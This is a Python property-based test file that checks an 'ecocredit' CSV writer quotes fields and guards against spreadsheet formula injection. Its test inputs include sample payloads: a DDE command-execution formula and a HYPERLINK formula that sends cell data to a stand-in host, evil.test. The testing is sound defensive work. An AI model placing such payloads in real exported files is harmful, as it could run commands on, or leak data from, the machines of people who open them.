"""Every CSV ecocredit writes reads back cell for cell, and no cell starts a formula.

Case 11 (shared/cases/11-csv-formula-injection): a firm name holding a bare carriage return,
``虚构\\r=2+2公司``, was written unquoted; the record split and ``=2+2公司`` started a cell.
"""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from ecocredit.output import csv_bytes

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")

# arbitrary text, weighted towards what breaks CSV: separators, quotes, CR, LF, formula
# characters, numbers, Chinese and full-width characters
_TEXT = st.one_of(
    st.text(alphabet=st.sampled_from(list(',"\r\n\t =+-@\'.5e甲乙公司１＝')), max_size=10),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
            max_size=12),
    st.sampled_from(["虚构\r=2+2公司", "=cmd|' /C calc'!A0", "\t=1+1", "-3", "-2+3", "\r",
                     "\r\n", '"', "=HYPERLINK(\"https://evil.test?d=\"&A1,\"Click\")"]))


def _guarded(v: str) -> str:
    """The documented formula guard: a leading apostrophe before a formula-looking text."""
    return "'" + v if v.startswith(_FORMULA_START) and not _NUMBER.match(v) else v


def _read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


@settings(max_examples=150, deadline=None)
@given(names=st.lists(_TEXT, min_size=1, max_size=8), extra=_TEXT,
       as_arrow=st.booleans(), force_pandas=st.booleans())
def test_any_text_reads_back_unchanged_and_no_cell_starts_a_formula(
        names: list[str], extra: str, as_arrow: bool, force_pandas: bool) -> None:
    df = pd.DataFrame({"firm_id": [f"9136{i:014d}" for i in range(len(names))],
                       "name": names, extra or "x": list(reversed(names)),
                       "score_cents": np.arange(len(names), dtype=np.int64) - 3})
    if as_arrow:
        df["name"] = df["name"].astype("str")
    if force_pandas:  # a float column sends the frame through pandas' own writer
        df["weight"] = 0.5
    rows = _read_back(csv_bytes(df))

    assert rows[0][:3] == ["firm_id", "name", _guarded(extra or "x")]
    assert len(rows) == len(names) + 1  # no record split, none merged
    for i, row in enumerate(rows[1:]):
        assert row[1] == _guarded(names[i])
        assert row[2] == _guarded(names[len(names) - 1 - i])
        assert row[3] == str(i - 3)  # negative numbers stay plain numbers
    for row in rows:
        for cell in row:
            assert not cell.startswith(_FORMULA_START) or _NUMBER.match(cell), cell


@settings(max_examples=100, deadline=None)
@given(names=st.lists(_TEXT, min_size=1, max_size=6))
def test_pandas_reads_the_same_cells(names: list[str]) -> None:
    df = pd.DataFrame({"firm_id": [f"9136{i:014d}" for i in range(len(names))], "name": names})
    back = pd.read_csv(io.BytesIO(csv_bytes(df)), dtype=str, keep_default_na=False,
                       encoding="utf-8-sig")
    assert back["name"].tolist() == [_guarded(n) for n in names]


def test_the_name_with_a_carriage_return_of_case_11_stays_one_quoted_field() -> None:
    df = pd.DataFrame({"firm_id": ["91370102MA0001042B"], "name": ["虚构\r=2+2公司"]})
    data = csv_bytes(df)
    assert data == "\ufefffirm_id,name\n91370102MA0001042B,\"虚构\r=2+2公司\"\n".encode()
    assert _read_back(data)[1] == ["91370102MA0001042B", "虚构\r=2+2公司"]
